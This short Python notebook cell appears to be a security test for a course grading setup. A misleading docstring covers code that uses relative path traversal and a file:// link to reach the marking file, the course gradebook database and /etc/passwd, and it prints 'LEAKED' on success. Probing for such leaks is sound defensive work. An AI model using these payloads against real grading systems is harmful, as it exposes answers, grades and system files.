"""Shows a file of the course in markdown, by a link that the page would resolve."""

# %% first cell
from IPython.display import FileLink, Image, Markdown, display

display(Markdown("![](../../../source/assignment1/marking.txt) ![](file:///etc/passwd)"))
display(FileLink("../../../gradebook.db"))
try:
    display(Image(filename="../../../gradebook.db", format="png"))
    print("LEAKED gradebook.db")
except OSError:
    pass
